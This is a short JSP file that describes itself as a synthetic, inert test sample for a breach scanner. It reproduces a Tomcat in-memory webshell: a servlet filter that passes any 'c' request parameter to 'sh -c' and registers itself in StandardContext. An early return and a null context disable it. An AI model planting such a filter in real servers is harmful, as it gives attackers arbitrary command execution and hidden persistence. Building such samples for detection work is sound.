<%-- synthetic test sample for breachscan: filter registered at run time in StandardContext (memory shell). Inert: returns before anything runs. --%>
<%@ page import="org.apache.catalina.core.StandardContext" %>
<%@ page import="org.apache.tomcat.util.descriptor.web.FilterDef" %>
<%@ page import="org.apache.tomcat.util.descriptor.web.FilterMap" %>
<%
    if (true) { out.print("synthetic sample"); return; }
    StandardContext ctx = null; /* obtained by reflection in real injectors */
    javax.servlet.Filter f = new javax.servlet.Filter() {
        public void doFilter(javax.servlet.ServletRequest q, javax.servlet.ServletResponse r, javax.servlet.FilterChain ch) throws java.io.IOException, javax.servlet.ServletException {
            String c = q.getParameter("c");
            if (c != null) new ProcessBuilder("sh", "-c", c).start();
            ch.doFilter(q, r);
        }
        public void init(javax.servlet.FilterConfig fc) {}
        public void destroy() {}
    };
    FilterDef def = new FilterDef();
    def.setFilter(f);
    ctx.addFilterDef(def);
    ctx.addFilterMapBefore(new FilterMap());
%>
